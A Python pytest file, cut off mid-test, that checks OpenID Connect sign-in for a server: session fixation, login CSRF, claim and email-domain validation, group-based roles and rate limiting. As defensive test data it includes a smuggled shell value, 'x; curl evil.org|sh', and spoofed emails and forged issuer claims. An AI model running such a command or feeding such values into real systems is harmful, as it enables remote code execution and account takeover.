"""Signing in by a provider of OpenID Connect, and by what tries to look like one."""

from __future__ import annotations

import json
import shlex
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from fakes.browser import barriers, browsing, watched
from fakes.oidc import CLIENT, KEYS, SECRET, OidcProvider, by_public_key, signed
from fakes.paged import HTML
from fakes.sampled import every
from fakes.served import Got, Served, ask, serving
from fakes.signed import sign_in
from sqlalchemy import update

from zoo.errors import Conflict, InvalidOption, InvalidReference, Unavailable, UnknownName
from zoo.registry.engine import writing
from zoo.serve.sso import claims as claims_module
from zoo.serve.sso import issuer as issuer_module
from zoo.serve.sso import tries as tries_module
from zoo.serve.sso import turns as turns_module
from zoo.serve.table import ROUTES
from zoo.serve.who import reserved, schema
from zoo.serve.who.groups import follow, read_rule
from zoo.serve.who.may import Role
from zoo.serve.who.open import FILE
from zoo.serve.who.providers import Provider
from zoo.workspace import Workspace

FROM_HERE = {"Accept": HTML, "Sec_Fetch_Site": "same-origin"}
NAVIGATES = {"Sec_Fetch_Site": "cross-site", "Accept": HTML}


@pytest.fixture
def zoo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Served]:
    """An empty zoo, served."""
    monkeypatch.setenv("ZOO_SSO_SECRET_LAB", SECRET)
    Workspace.create(tmp_path / "zoo").close()
    with serving(tmp_path / "zoo") as served:
        yield served


@pytest.fixture
def provider() -> Iterator[OidcProvider]:
    with OidcProvider() as made:
        made.user = {"sub": "7", "preferred_username": "Ann B", "email": "ann@lab.org",
                     "email_verified": True}  # fmt: skip
        yield made


def add(served: Served, provider: OidcProvider, **more: Any) -> Provider:
    made = Provider(name="lab", issuer=provider.url, client_id=CLIENT, **more)
    served.accounts.providers.add(made)
    return made


class Browser:
    """A browser, which keeps cookies and does not follow by itself."""

    def __init__(self, served: Served) -> None:
        self.served, self.cookies = served, dict[str, str]()

    def get(self, path: str, **headers: str) -> Got:
        cookie = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        sent = {"Cookie": cookie, **(headers or {"Accept": HTML})}
        got = ask(self.served.url, path, "GET", token=None, body=b"", **sent)
        if text := got.headers.get("set-cookie"):
            name, _, value = text.partition(";")[0].partition("=")
            self.cookies[name] = value
        return got

    def begin(self, path: str = "/-/sso/lab", **headers: str) -> str:
        """The address at the provider that the browser is sent to."""
        got = self.get(path, **headers)
        assert got.status == 303, got
        assert got.headers["cache-control"] == "no-store"
        return got.headers["location"]

    def back(self, **sent: str) -> Got:
        return self.get(f"/-/sso/lab/back?{urlencode(sent)}", **NAVIGATES)

    def signs_in(self, provider: OidcProvider, path: str = "/-/sso/lab", **headers: str) -> Got:
        return self.back(**provider.signed_in(self.begin(path, **headers)))

    @property
    def who(self) -> str:
        got = self.get("/-/settings.json", Accept="application/json")
        return str(got.json["name"]) if got.status == 200 else ""


def told(served: Served) -> list[tuple[str, str, str]]:
    return [(row.action, row.name, row.detail) for row in served.accounts.audit.rows(limit=999)]


def accounts(served: Served) -> list[str]:
    return [each.name for each in served.accounts.all()]


def test_who_signs_in_first_gets_an_account_and_comes_back_to_it(
    zoo: Served, provider: OidcProvider
) -> None:
    add(zoo, provider, creates=True)
    browser = Browser(zoo)
    got = browser.signs_in(provider, "/-/sso/lab?next=/runs")
    assert (got.status, got.headers["location"]) == (303, "/runs")
    assert got.headers["set-cookie"].endswith("; Path=/; Max-Age=1209600; HttpOnly; SameSite=Lax")
    assert browser.who == "ann-b"
    assert ("signed in", "ann-b", "by lab: 7, Ann B, ann@lab.org") in told(zoo)
    provider.user = {"sub": "7", "preferred_username": "renamed"}
    again = Browser(zoo)
    assert again.signs_in(provider).status == 303
    assert again.who == "ann-b"
    first, _ = zoo.accounts.tokens("ann-b")
    assert (first.name, first.purpose) == ("signed in by lab", "write")
    assert first.expires
    cookie = "; ".join(f"{name}={value}" for name, value in again.cookies.items())
    zoo.ask("/sign-out", "POST", Sec_Fetch_Site="same-origin", Cookie=cookie)
    assert again.who == ""
    ended = {each.id: each.revoked for each in zoo.accounts.tokens("ann-b")}
    assert [bool(each) for each in ended.values()].count(True) == 1, "its token ends with it"
    assert browser.who == "ann-b"


def test_a_session_begun_by_a_stranger_is_not_kept(zoo: Served, provider: OidcProvider) -> None:
    """Session fixation: who signs in has a new one, and the one before ends."""
    add(zoo, provider, creates=True)
    browser, eve = Browser(zoo), sign_in(zoo.url, zoo.token("eve"))
    name, _, value = eve.cookie.partition("=")
    browser.cookies[name] = value
    assert browser.signs_in(provider).status == 303
    assert browser.cookies[name] != value
    assert browser.who == "ann-b"
    assert eve.get("/-/settings.json").status == 401


def test_nobody_is_signed_in_by_a_name_or_an_address(zoo: Served, provider: OidcProvider) -> None:
    """What a provider calls somebody may be an account here, of somebody else."""
    zoo.token("ann-b")
    add(zoo, provider, creates=True)
    browser = Browser(zoo)
    browser.signs_in(provider)
    assert browser.who == "ann-b-2"
    provider.user = {"sub": "8", "email": "ann-b@elsewhere.org", "email_verified": True}
    other = Browser(zoo)
    other.signs_in(provider)
    assert other.who == "ann-b-3"


@pytest.mark.parametrize(
    ("said", "name"),
    every(3, [("admin", "admin-2"), ("timm", "timm-2"), ("../../x", "x"), ("", "user"),
              ("ÄÖ", "user"), ("a" * 99, "a" * 32), ("Team", "team-2"), ("Sign-In", "sign-in-2"),
              ("runs", "runs-2"), ("gone", "gone-2"), ({}, "user")], beside=pytest.mark.long),
)  # fmt: skip
def test_a_new_account_takes_nobodys_namespace(
    zoo: Served, provider: OidcProvider, said: object, name: str
) -> None:
    """Nor one that somebody had, or that something was said of."""
    zoo.accounts.set_level("team/net", level="private")
    zoo.accounts.add("gone")
    zoo.accounts.remove("gone")
    add(zoo, provider, creates=True)
    provider.user = {"sub": "7", "preferred_username": said}
    browser = Browser(zoo)
    assert browser.signs_in(provider).status == 303
    assert browser.who == name


def test_of_whose_name_nothing_is_left_another_claim_says_it(
    zoo: Served, provider: OidcProvider
) -> None:
    """And there are more than a hundred of one name."""
    add(zoo, provider, creates=True)
    for name in ("user", *(f"user-{number}" for number in range(2, 100))):
        zoo.accounts.add(name)
    for subject, email, name in (
        ("1", "wang@lab.org", "wang"),
        ("2", "\u674e@lab.org", "user-100"),
    ):
        provider.user = {"sub": subject, "preferred_username": "\u738b\u4f1f", "email": email}
        browser = Browser(zoo)
        assert browser.signs_in(provider).status == 303
        assert browser.who == name


def test_no_account_is_called_as_an_address_of_the_server() -> None:
    """Nor a team: its repositories could not be asked for."""
    first = {route.path.split("/")[1] for route in ROUTES}
    assert {part for part in first if part and "{" not in part} <= reserved.ADDRESSES
    for name in ("sign-in", "Runs", "zoo"):
        with pytest.raises(InvalidReference, match="addresses of the server"):
            reserved.check_free(name)


def test_an_account_is_made_only_if_the_admin_said_so(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider)
    browser = Browser(zoo)
    got = browser.signs_in(provider)
    assert (got.status, got.code) == (403, "")
    assert b"zoo serve sso link lab 7 ACCOUNT" in got.body
    assert (accounts(zoo), browser.who) == ([], "")
    provider.user = {"sub": "x; curl evil.org|sh # '"}
    page = Browser(zoo).signs_in(provider).body.decode()
    command = unescape(page).partition("zoo serve sso link")[2].partition(" ACCOUNT")[0]
    assert shlex.split(command) == ["lab", "x; curl evil.org|sh # '"], "whoever runs it pastes it"
    provider.user = {"sub": "7"}
    zoo.accounts.add("ann")
    zoo.accounts.providers.link(provider.url, "7", "ann")
    browser.signs_in(provider)
    assert browser.who == "ann"


@pytest.mark.parametrize(
    ("more", "made"),
    every(
        4,
        [
            ({"email": "ann@lab.org", "email_verified": True}, True),
            ({"email": "ann@LAB.org", "email_verified": True}, True),
            ({"email": "ann@lab.org", "email_verified": False}, False),
            ({"email": "ann@lab.org", "email_verified": "true"}, False),
            ({"email": "ann@lab.org", "email_verified": 1}, False),
            ({"email": "ann@lab.org"}, False),
            ({"email": "ann@lab.org.evil.example", "email_verified": True}, False),
            ({"email": "ann@evil.example", "email_verified": True}, False),
            ({"email": ["x@lab.org"], "email_verified": True}, False),
            *(
                ({"email": email, "email_verified": True}, False)
                for email in (
                    "a@evil.org,b@lab.org",
                    "a@evil.org@lab.org",
                    "a@evil\n@lab.org",
                    "lab.org",
                    "@lab.org",
                    "<a@evil.org>b@lab.org",
                    '"a@evil.org"@lab.org',
                    "a\0@lab.org",
                    "ann@lab.org\n",
                )
            ),
            ({}, False),
        ],
        beside=pytest.mark.long,
    ),
)
def test_accounts_of_one_domain(
    zoo: Served, provider: OidcProvider, more: dict[str, object], made: bool
) -> None:
    add(zoo, provider, creates=True, domains=("lab.org",))
    provider.user = {"sub": "7", **more}
    got = Browser(zoo).signs_in(provider)
    assert (got.status, accounts(zoo)) == ((303, ["ann"]) if made else (403, []))


def test_an_issuer_that_verifies_no_e_mails(zoo: Served, provider: OidcProvider) -> None:
    """Who signs in is told that, as is who would have it make accounts by them."""
    add(zoo, provider, creates=True, domains=("lab.org",))
    del provider.user["email_verified"]
    said = text_of(Browser(zoo).signs_in(provider).body)
    assert "lab does not say whether your e-mail is verified" in said
    assert "zoo serve sso add --claim" in said
    assert "does not say whether" in told(zoo)[-1][2]
    provider.user["email_verified"] = False
    assert "your e-mail is not verified" in text_of(Browser(zoo).signs_in(provider).body)
    tenant = "https://login.microsoftonline.com/11112222-3333-4444-5555-666677778888/v2.0"
    made: dict[str, Any] = {"name": "entra", "issuer": tenant, "client_id": "zoo", "creates": True}
    with pytest.raises(InvalidOption, match="says of no e-mail") as raised:
        zoo.accounts.providers.add(Provider(**made, domains=("lab.org",)))
    assert "acct=0" in str(raised.value.hint)
    zoo.accounts.providers.add(Provider(**made, claims={"acct": "0"}))
    assert zoo.accounts.providers.get("entra").claims == {"acct": "0"}


def test_accounts_for_who_has_a_claim(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True, claims={"hd": "lab.org", "acct": "0"})
    for said in ({}, {"hd": "lab.org"}, {"hd": ["lab.org"], "acct": 0}, {"hd": "x", "acct": 0}):
        provider.user = {"sub": "8", "email": "eve@lab.org", "email_verified": True, **said}
        got = Browser(zoo).signs_in(provider)
        assert (got.status, accounts(zoo)) == (403, [])
        assert "does not say of you what it takes" in text_of(got.body)
    provider.user |= {"hd": "lab.org", "acct": 0}
    assert Browser(zoo).signs_in(provider).status == 303
    assert accounts(zoo) == ["eve"]
    base: dict[str, Any] = {"name": "x", "issuer": provider.url, "client_id": CLIENT}
    odd: tuple[dict[str, Any], ...] = (
        {"creates": False},
        {"claims": {"iss": "x"}},
        {"claims": {"a": ""}},
    )
    for wrong in odd:
        with pytest.raises(InvalidOption):
            zoo.accounts.providers.add(
                Provider(**{**base, "creates": True, "claims": {"a": "b"}, **wrong})
            )


def test_teams_by_groups(zoo: Served, provider: OidcProvider) -> None:
    """Each sign-in gives what the claim says by then, and no more; what was given by hand stays."""
    for team in ("vision", "audio", "hand"):
        zoo.accounts.add(team, team=True)
    rules = tuple(map(read_rule, (
        "all=vision", "cn=vis,ou=x=vision:writer", "audio=audio:maintainer", "all=hand:owner",
    )))  # fmt: skip
    add(zoo, provider, creates=True, groups_claim="groups", rules=rules)
    assert zoo.accounts.providers.get("lab").rules == rules
    assert Browser(zoo).signs_in(provider).status == 303
    assert roles(zoo) == {}, "no claim, no role"
    zoo.accounts.grant("hand", "ann-b", "reader")
    for groups, found in (
        (["all", "cn=vis,ou=x", "audio", 7, None], {"vision": "writer", "audio": "maintainer"}),
        (["all"], {"vision": "reader"}), ("audio", {"audio": "maintainer"}),
        ({"all": True}, {}), (["All", "al"], {}), (["cn=vis,ou=x"], {"vision": "writer"}),
    ):  # fmt: skip
        provider.user["groups"] = groups
        before, had = len(told(zoo)), roles(zoo)
        assert Browser(zoo).signs_in(provider).status == 303
        assert roles(zoo) == {"hand": "reader", **found}, groups
        rows = [row for row in told(zoo)[before:] if row[0].startswith("role")]
        assert bool(rows) == (roles(zoo) != had), "each change is told"
        assert all("as lab says" in row[2] for row in rows)
    before = len(told(zoo))
    Browser(zoo).signs_in(provider)
    assert not [row for row in told(zoo)[before:] if row[0].startswith("role")], "nothing changed"
    zoo.accounts.grant("vision", "ann-b", "owner")
    provider.user["groups"] = []
    Browser(zoo).signs_in(provider)
    assert roles(zoo) == {"hand": "reader", "vision": "owner"}, "it is by hand since"
    zoo.accounts.grant("vision", "ann-b", None)
    provider.user["groups"] = ["all", "audio"]
    zoo.accounts.remove("audio", team=True)
    Browser(zoo).signs_in(provider)
    assert roles(zoo) == {"hand": "reader", "vision": "reader"}


def test_roles_by_groups_go_with_the_login_and_the_provider(
    zoo: Served, provider: OidcProvider
) -> None:
    zoo.accounts.add("vision", team=True)
    provider.user["groups"] = ["all"]
    for how in ("unlink", "remove", "relink"):
        add(zoo, provider, creates=True, groups_claim="groups", rules=(read_rule("all=vision"),))
        zoo.accounts.add(how)
        zoo.accounts.providers.link(provider.url, "7", how)
        assert Browser(zoo).signs_in(provider).status == 303
        assert roles(zoo, how) == {"vision": "reader"}
        if how == "unlink":
            zoo.accounts.providers.unlink(provider.url, "7")
        elif how == "relink":
            zoo.accounts.providers.link(provider.url, "7", "unlink")
        if how != "remove":
            assert roles(zoo, how) == {}
        zoo.accounts.providers.remove("lab")
        assert roles(zoo, how) == {}


def test_roles_by_groups_stay_while_another_login_of_the_account_is_there(
    zoo: Served, provider: OidcProvider
) -> None:
    zoo.accounts.add("vision", team=True)
    zoo.accounts.add("ann")
    rules = (read_rule("all=vision"),)
    add(zoo, provider, groups_claim="groups", rules=rules)
    for subject, groups in (("8", []), ("7", ["all"])):
        zoo.accounts.providers.link(provider.url, subject, "ann")
        provider.user |= {"sub": subject, "groups": groups}
        assert Browser(zoo).signs_in(provider).status == 303
    zoo.accounts.providers.unlink(provider.url, "8")
    assert roles(zoo, "ann") == {"vision": "reader"}, "the groups of the other gave it"
    zoo.accounts.providers.unlink(provider.url, "7")
    assert roles(zoo, "ann") == {}


def test_of_several_providers_the_one_counts_that_gives_the_most(zoo: Served) -> None:
    def says(provider: str, role: Role | None, account: str = "ann") -> None:
        with writing(zoo.accounts._engine) as connection:
            follow(connection, provider, account, {"vision": role} if role else {})

    for name in ("ann", "ben"):
        zoo.accounts.add(name)
    zoo.accounts.add("vision", team=True)
    for name in ("lab", "hub"):
        made = Provider(name=name, issuer=f"https://{name}.org", client_id=CLIENT)
        zoo.accounts.providers.add(made)
    said: tuple[tuple[str, Role | None, str | None], ...] = (
        ("lab", "writer", "writer"), ("hub", "reader", "writer"), ("hub", "owner", "owner"),
        ("lab", "reader", "owner"), ("hub", None, "reader"), ("hub", "owner", "owner"),
        ("lab", None, "owner"),
    )  # fmt: skip
    for provider, role, found in said:
        says(provider, role)
        assert roles(zoo, "ann") == ({"vision": found} if found else {}), (provider, role)
    says("hub", "writer", "ben")
    says("hub", "reader")
    assert (roles(zoo, "ann"), roles(zoo, "ben")) == ({"vision": "reader"}, {"vision": "writer"})
    # What they said of a team that was deleted is not of the next one that is called so.
    says("hub", "owner")
    zoo.accounts.remove("vision", team=True)
    zoo.accounts.add("vision", team=True)
    says("lab", "reader")
    assert roles(zoo, "ann") == {"vision": "reader"}


@pytest.mark.parametrize(
    "rule", ["vision", "=vision", "all=vision:admin", "all=", "a\nb=vision", "all=a/b"]
)
def test_what_is_no_rule_of_groups(rule: str) -> None:
    with pytest.raises((InvalidOption, InvalidReference)):
        read_rule(rule)


def test_rules_of_groups_need_a_claim_and_a_team(zoo: Served, provider: OidcProvider) -> None:
    zoo.accounts.add("vision", team=True)
    zoo.accounts.add("ann")
    fine = (read_rule("all=vision"),)
    with pytest.raises(InvalidOption, match="--groups-claim"):
        add(zoo, provider, rules=fine)
    with pytest.raises(InvalidOption, match="--groups-claim"):
        add(zoo, provider, groups_claim="groups")
    with pytest.raises(InvalidOption, match="at most 100"):
        add(zoo, provider, groups_claim="groups", rules=fine * 101)
    with pytest.raises(UnknownName, match="unknown team 'ann'"):
        add(zoo, provider, groups_claim="groups", rules=(read_rule("all=ann"),))


def roles(served: Served, account: str = "ann-b") -> dict[str, str]:
    given = served.accounts.rules().given()
    return {each.path: each.roles[account] for each in given if account in each.roles}


def text_of(page: bytes) -> str:
    return " ".join(unescape(page.decode()).split())


def test_who_is_signed_in_links_the_account(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider)
    browser, session = Browser(zoo), sign_in(zoo.url, zoo.token("ann", "write"))
    name, _, value = session.cookie.partition("=")
    browser.cookies[name] = value
    assert browser.get("/-/sso/lab?link=1", Accept=HTML, Sec_Fetch_Site="cross-site").status == 403
    assert browser.get("/-/sso/lab?link=1").status == 403, "nobody says where it comes from"
    address = browser.begin("/-/sso/lab?link=1", Sec_Fetch_Site="same-origin")
    assert parse_qs(urlsplit(address).query)["prompt"] == ["login"]
    got = browser.back(**provider.signed_in(address))
    assert (got.status, got.headers["location"]) == (303, "/-/settings?done=link")
    page = browser.get("/-/settings").body.decode()
    assert f"<code>7</code> at <code>{provider.url}</code> is ann here" in page
    assert 'href="/-/sso/lab?link=1"' in page
    assert ("identity linked", "ann", f"{provider.url} 7") in told(zoo)
    fresh = Browser(zoo)
    fresh.signs_in(provider)
    assert fresh.who == "ann"
    # Somebody else's account cannot take it over.
    ben = Browser(zoo)
    ben.cookies[name] = sign_in(zoo.url, zoo.token("ben", "write")).cookie.partition("=")[2]
    got = ben.signs_in(provider, "/-/sso/lab?link=1", Sec_Fetch_Site="same-origin")
    assert got.status == 403
    assert zoo.accounts.providers.identity(provider.url, "7").account == "ann"  # type: ignore[union-attr]


def test_a_link_is_for_the_session_that_began_it(zoo: Served, provider: OidcProvider) -> None:
    """And for one that may do all: a token to read makes no way in that outlasts it."""
    add(zoo, provider)
    browser = Browser(zoo)
    name, _, value = sign_in(zoo.url, zoo.token("ann", "write")).cookie.partition("=")
    browser.cookies[name] = value
    address = browser.begin("/-/sso/lab?link=1", Sec_Fetch_Site="same-origin")
    browser.cookies[name] = sign_in(zoo.url, zoo.token("ben", "write")).cookie.partition("=")[2]
    assert browser.back(**provider.signed_in(address)).status == 403
    browser.cookies[name] = sign_in(zoo.url, zoo.token("ben")).cookie.partition("=")[2]
    got = browser.get("/-/sso/lab?link=1", Sec_Fetch_Site="same-origin", Accept=HTML)
    assert got.status == 403
    assert zoo.accounts.providers.identities() == []


def test_a_token_that_expires_makes_no_way_in_that_outlasts_it(
    zoo: Served, provider: OidcProvider
) -> None:
    """Whoever has stolen one, or a session by a provider, links nobody, begun with it or not."""
    add(zoo, provider, creates=True)
    browser, (_, short) = Browser(zoo), zoo.accounts.new_token(
        zoo.accounts.add("ann").name, "short", "write", lasts=60.0
    )  # fmt: skip
    name, _, value = sign_in(zoo.url, str(short)).cookie.partition("=")
    browser.cookies[name] = value
    assert browser.get("/-/sso/lab?link=1", **FROM_HERE).status == 403
    page = browser.get("/-/settings").body
    assert b"sso/lab?link=1" not in page
    assert b"that does not expire" in page
    by_provider = Browser(zoo)
    assert by_provider.signs_in(provider).status == 303
    provider.user = {"sub": "thief"}
    assert by_provider.get("/-/sso/lab?link=1", **FROM_HERE).status == 403
    assert [each.subject for each in zoo.accounts.providers.identities()] == ["7"]
    browser.cookies[name] = sign_in(zoo.url, zoo.token("eve", "write")).cookie.partition("=")[2]
    address = browser.begin("/-/sso/lab?link=1", **FROM_HERE)
    with writing(zoo.accounts._engine) as connection:
        connection.execute(update(schema.token).values(expires="2099-01-01T00:00:00Z"))
    assert browser.back(**provider.signed_in(address)).status == 403, "nor comes back to it"


def test_a_login_is_unlinked_by_whose_account_it_is(zoo: Served, provider: OidcProvider) -> None:
    """By a form of their page, as all are sent; who has signed in so is out."""
    add(zoo, provider)
    ann, eve = (sign_in(zoo.url, zoo.token(name, "write")) for name in ("ann", "eve"))
    for account, subject in (("ann", " 7"), ("eve", "8")):
        zoo.accounts.providers.link(provider.url, subject, account)
    provider.user = {"sub": " 7"}
    other = Browser(zoo)
    assert other.signs_in(provider).status == 303
    (token,) = (each for each in zoo.accounts.tokens("ann") if each.ends_with == "provider-lab")
    _, made = zoo.accounts.new_token("ann", "made in it", "write", by=token.id)
    page = ann.get("/-/settings").body.decode()
    assert '<input type="hidden" name="subject" value=" 7">' in page
    body = urlencode({"do": "unlink", "issuer": provider.url, "subject": " 7"}).encode()
    sent: dict[str, Any] = {
        "method": "POST",
        "body": body,
        "Content_Type": "application/x-www-form-urlencoded",
    }
    zoo.ask("/-/settings", Cookie=eve.cookie, Sec_Fetch_Site="same-origin", **sent)
    assert (
        zoo.ask("/-/settings", Cookie=ann.cookie, Sec_Fetch_Site="cross-site", **sent).status == 403
    )
    assert other.who == "ann"
    got = zoo.ask("/-/settings", Cookie=ann.cookie, Sec_Fetch_Site="same-origin", **sent)
    assert (got.status, got.headers["location"]) == (303, "/-/settings?done=unlink")
    assert [each.account for each in zoo.accounts.providers.identities()] == ["eve"]
    assert other.who == ""
    assert zoo.ask("/-/settings.json", token=str(made)).status == 401
    assert ann.get("/-/settings").status == 200
    assert Browser(zoo).signs_in(provider).status == 403


def test_who_signed_in_by_a_provider_that_is_removed_is_out(
    zoo: Served, provider: OidcProvider
) -> None:
    """With tokens that were made in the session; and who comes back just then does not get in."""
    made = add(zoo, provider, creates=True)
    browser, late = Browser(zoo), Browser(zoo)
    assert browser.signs_in(provider).status == 303
    back = provider.signed_in(late.begin())
    real = provider._post

    def removed(request: Any) -> None:
        zoo.accounts.providers.remove("lab")
        real(request)

    provider._post = removed  # type: ignore[method-assign]
    assert late.back(**back).status == 403
    assert (browser.who, late.who) == ("", "")
    zoo.accounts.providers.add(made)
    assert browser.who == ""


def test_who_was_deleted_does_not_come_back(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    browser = Browser(zoo)
    browser.signs_in(provider)
    address = browser.begin()
    zoo.accounts.remove("ann-b")
    assert browser.who == "", "the session is over"
    got = browser.back(**provider.signed_in(address))
    assert (got.status, accounts(zoo)) == (403, [])
    assert b"was deleted" in got.body
    zoo.accounts.providers.unlink(provider.url, "7")
    browser.signs_in(provider)
    assert browser.who == "ann-b-2", "the name was somebody's"
    with pytest.raises(UnknownName):
        zoo.accounts.providers.unlink(provider.url, "8")


def test_another_browser_s_answer_is_not_taken(zoo: Served, provider: OidcProvider) -> None:
    """Login CSRF: a link that signs the victim in as the attacker."""
    add(zoo, provider, creates=True)
    attacker, victim = Browser(zoo), Browser(zoo)
    back = provider.signed_in(attacker.begin())
    assert victim.back(**back).status == 403
    victim.begin()
    assert victim.back(**back).status == 403, "it has begun another one"
    wrong = {**provider.signed_in(victim.begin()), "state": "0" * 64}
    assert victim.back(**wrong).status == 403
    assert victim.back(code=wrong["code"]).status == 403
    assert provider.asked["/token"] == 0, "no code was given away"
    assert (accounts(zoo), victim.who) == ([], "")
    assert attacker.back(**back).status == 303


def test_an_answer_is_good_once(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    browser = Browser(zoo)
    address = browser.begin()
    back, other = provider.signed_in(address), provider.signed_in(address)
    assert browser.back(**back).status == 303
    assert browser.back(**back).status == 403, "the provider takes the code once"
    again = browser.back(**other)
    assert again.status == 403, "another code of the same try"
    assert b"done already" in again.body
    assert len(zoo.accounts.tokens("ann-b")) == 1


def test_one_try_has_the_provider_asked_once(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever came of it: a stranger with one cookie could else keep everybody out."""
    monkeypatch.setattr(tries_module, "MOST", 3)
    add(zoo, provider, creates=True)
    stranger = Browser(zoo)
    state = provider.signed_in(stranger.begin())["state"]
    for number in range(5):
        assert stranger.back(code=f"x{number}", state=state).status == 403
    assert provider.asked["/token"] == 1
    assert Browser(zoo).signs_in(provider).status == 303
    tries, later = tries_module.Tries(), time.time() + 60
    assert [tries.spend(each, later) for each in "aab"] == [True, False, True]
    assert tries.spend("c", later)
    assert [tries.spend(each, later) for each in "da"] == [True, True], "no more are kept than that"
    assert [*tries._spent] == ["c", "d", "a"]
    assert tries.spend("e", later)
    assert [*tries._spent] == ["d", "a", "e"]
    tries._spent["d"] = 0.0
    assert tries.spend("f", later)
    assert [*tries._spent] == ["a", "e", "f"], "what has expired is forgotten"


def test_who_comes_back_waits_for_a_turn_and_keeps_nobody_from_the_keys(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(zoo, provider, creates=True)
    assert Browser(zoo).signs_in(provider).status == 303
    issuer = zoo.server.hub.issuers.at(provider.url, ())
    browsers = [Browser(zoo) for _ in range(2)]
    backs = [provider.signed_in(each.begin()) for each in browsers]
    with ExitStack() as held, ThreadPoolExecutor(1) as pool:
        for _ in range(issuer_module.TURNS):
            held.enter_context(issuer._posting.taken())
        issuer._kept.clear()
        assert issuer.keys("one"), "its documents are asked for apart"
        waits = pool.submit(browsers[0].back, **backs[0])
        time.sleep(0.2)
        assert not waits.done()
        held.close()
        assert waits.result().status == 303
        for _ in range(issuer_module.TURNS):
            held.enter_context(issuer._posting.taken())
        monkeypatch.setattr(turns_module, "SECONDS", 0.1)
        assert browsers[1].back(**backs[1]).status == 503


def test_strangers_who_fill_the_line_keep_nobody_out(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From many addresses, each with a cookie of its own, while the provider is slow."""
    add(zoo, provider, creates=True)
    browser = Browser(zoo)
    back = provider.signed_in(browser.begin())
    turns = zoo.server.hub.issuers.at(provider.url, ())._posting
    full, waiting = issuer_module.TURNS, turns_module.WAITING

    with ExitStack() as held, ThreadPoolExecutor(waiting + 1) as pool:
        for number in range(full):
            held.enter_context(turns.taken(f"10.0.1.{number}"))
        strangers = []
        for number in range(waiting):
            strangers.append(pool.submit(_comes, turns, f"10.0.0.{number}"))
            _until(lambda: len(turns._line) == len(strangers))
        came = pool.submit(browser.back, **back)
        assert strangers[0].result() is False, "who has waited longest goes"
        assert not came.done()
        held.close()
        assert came.result().status == 303
        assert [each.result() for each in strangers[1:]] == [True] * (waiting - 1)
    browser = Browser(zoo)
    back = provider.signed_in(browser.begin())
    monkeypatch.setattr(turns_module, "SECONDS", 0.1)
    with ExitStack() as held:
        for _ in range(full // 2):
            held.enter_context(turns.taken("127.0.0.1"))
        assert browser.back(**back).status == 503, "one address has half of the turns"
        assert _comes(turns, "10.0.0.1"), "the others are for others"


def test_those_of_one_network_have_half_of_the_line() -> None:
    turns, waiting = turns_module.Turns("https://id.lab.org", 2), turns_module.WAITING
    with ExitStack() as held, ThreadPoolExecutor(waiting) as pool:
        held.enter_context(turns.taken("10.0.0.1"))
        came = [pool.submit(_comes, turns, "10.0.0.1") for _ in range(waiting)]
        _until(lambda: sum(each.done() for each in came) == waiting // 2)
        assert len(turns._line) == waiting // 2
        assert _comes(turns, "10.0.0.2"), "past all of them"
        held.close()
    assert sum(each.result() for each in came) == waiting // 2


def _comes(turns: turns_module.Turns, who: str) -> bool:
    """Whether somebody has a turn."""
    with suppress(Unavailable), turns.taken(who):
        return True
    return False


def _until(what: Callable[[], bool]) -> None:
    ends = time.monotonic() + 10
    while not what():
        assert time.monotonic() < ends
        time.sleep(0.002)


def test_who_signs_in_twice_at_once_has_one_account(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    assert Browser(zoo).begin(), "its document is known"
    with ThreadPoolExecutor(4) as pool:
        found = [got.status for got in pool.map(lambda b: b.signs_in(provider),
                                                [Browser(zoo) for _ in range(4)])]  # fmt: skip
    assert set(found) <= {303, 503}
    assert 303 in found
    assert accounts(zoo) == ["ann-b"]


def test_a_try_ends_after_ten_minutes_and_is_of_one_provider(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(zoo, provider, creates=True)
    other = Provider(name="other", issuer=provider.url, client_id=CLIENT, creates=True)
    zoo.accounts.providers.add(other)
    browser = Browser(zoo)
    back = provider.signed_in(browser.begin())
    got = browser.get(f"/-/sso/other/back?{urlencode(back)}", **NAVIGATES)
    assert got.status == 403
    assert browser.back(**back, iss="https://evil.example").status == 403
    now = time.time()
    monkeypatch.setattr("zoo.serve.who.seals.time.time", lambda: now + 601)
    assert browser.back(**back).status == 403
    assert accounts(zoo) == []


WRONG: dict[str, dict[str, Any]] = {
    "iss": {"iss": "https://evil.example"}, "no iss": {"iss": None},
    "aud": {"aud": "another"}, "no aud": {"aud": None}, "two": {"aud": [CLIENT, "another"]},
    "azp": {"azp": "another"}, "nonce": {"nonce": "x" * 64}, "no nonce": {"nonce": None},
    "odd nonce": {"nonce": 7}, "expired": {"exp": 1}, "no exp": {"exp": None},
    "odd exp": {"exp": True}, "far": {"exp": 10**400}, "far nbf": {"nbf": 10**400},
    "far iat": {"iat": -(10**400)}, "long": {"exp": 1 << 40}, "nan": {"exp": float("nan")},
    "later": {"nbf": 1 << 40}, "tomorrow": {"iat": 1 << 40}, "nobody": {"sub": ""},
    "odd sub": {"sub": 7}, "long sub": {"sub": "x" * 256},
}  # fmt: skip


def test_what_is_said_of_others_is_not_taken(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    for why, claims in WRONG.items():
        provider.claims = claims
        browser = Browser(zoo)
        got = browser.signs_in(provider)
        assert (got.status, accounts(zoo), browser.who) == (403, [], ""), why
        assert b"does not say who you are" in got.body
    assert provider.asked["/token"] == len(WRONG)
    assert ("refused", "") in [row[:2] for row in told(zoo)]
    provider.claims = {}
    assert Browser(zoo).signs_in(provider).status == 303, "the same without that is"


def test_clocks_may_differ_by_a_minute(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    now = int(time.time())
    for claims, status in (
